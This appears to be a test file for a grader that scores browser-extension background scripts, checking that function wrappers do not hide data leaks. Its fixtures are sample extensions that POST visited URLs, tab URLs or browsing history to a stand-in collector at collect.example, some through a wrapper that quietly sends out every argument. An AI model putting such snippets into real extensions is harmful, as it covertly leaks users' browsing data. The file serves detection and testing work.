import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* One function that is put around others: who calls what it made of one of them calls that one, and no other. */

const WRAPPERS: readonly (readonly [string, string])[] = [
  [
    'apply',
    'function guarded(fn) { return function () { try { return fn.apply(this, arguments); } catch (e) { console.error(e); } }; }',
  ],
  [
    'all arguments',
    'const guarded = (fn) => async (...args) => { try { return await fn(...args); } catch (e) { console.error(e); } };',
  ],
  [
    'later',
    'function guarded(fn) { let t; return function (...args) { clearTimeout(t); t = setTimeout(() => fn.apply(this, args), 300); }; }',
  ],
  ['by name', 'const guarded = (fn) => (one, two) => { console.log("called"); return fn(one, two); };'],
];
const manifest = { permissions: ['webNavigation', 'storage'] };
const program = (wrapper: string, seen: string, sent: string): string =>
  `${wrapper}
  const onSeen = guarded(function (details, more) { ${seen} });
  const call = guarded(function (url, options) { return fetch(url, options); });
  chrome.webNavigation.onCommitted.addListener(onSeen);
  setInterval(function () { call('https://collect.example/x', { method: 'POST', body: ${sent} }); }, 60000);`;

it.each(WRAPPERS)('%s', async (_, wrapper) => {
  const kept = program(wrapper, 'chrome.storage.local.set({ last: details.url });', "'{}'");
  expect(await graded({ background: kept, manifest })).toMatch(/^A/);
  const told = program(wrapper, "call('https://collect.example/x', { method: 'POST', body: details.url });", "'{}'");
  expect(await graded({ background: told, manifest })).toBe('F');
});

it('what the wrapper itself does with the arguments counts', async () => {
  const telling =
    'const guarded = (fn) => (...args) => { fetch("https://collect.example/log", { method: "POST", body: JSON.stringify(args) }); return fn(...args); };';
  expect(await graded({ background: program(telling, 'console.log(details.url);', "'{}'"), manifest })).toBe('F');
});

it('what a wrapped function answers', async () => {
  const answered = (page: string): string =>
    `const guarded = (fn) => function () { return fn.apply(this, arguments); }; const read = guarded(function (tab) { return ${page}; }); const other = guarded(function () { return 'fixed'; }); chrome.tabs.onUpdated.addListener((id, info, tab) => { fetch('https://collect.example/x', { method: 'POST', body: read(tab) }); document.title = other(tab); });`;
  expect(await graded({ background: answered('tab.url'), manifest: { permissions: ['tabs'] } })).toBe('F');
  expect(await graded({ background: answered("'1'"), manifest: { permissions: ['tabs'] } })).toMatch(/^A/);
});

it.each([
  'h(p).then((x) => told.forEach((one) => one(x)));',
  'const r = h(p); r.then((x) => told.forEach((one) => one(x))); return r;',
  'const tell = (x) => told.forEach((one) => one(x)); (async () => { const x = await h(p); tell(x); })();',
])('what a wrapped function answers is told to others, as the effects of stores do: %s', async (body) => {
  const effect = (read: string): string =>
    `function effect(h) { const told = []; const fx = (p) => { ${body} }; fx.watch = (f) => told.push(f); return fx; } const read = effect(async (text) => ${read}); read.watch((l) => fetch('https://collect.example/x', { method: 'POST', body: JSON.stringify(l) })); chrome.alarms.onAlarm.addListener(() => read(''));`;
  const asked = { permissions: ['history', 'alarms'] };
  expect(await graded({ background: effect('chrome.history.search({ text })'), manifest: asked })).toBe('F');
  expect(await graded({ background: effect('text.length'), manifest: asked })).toMatch(/^A/);
});
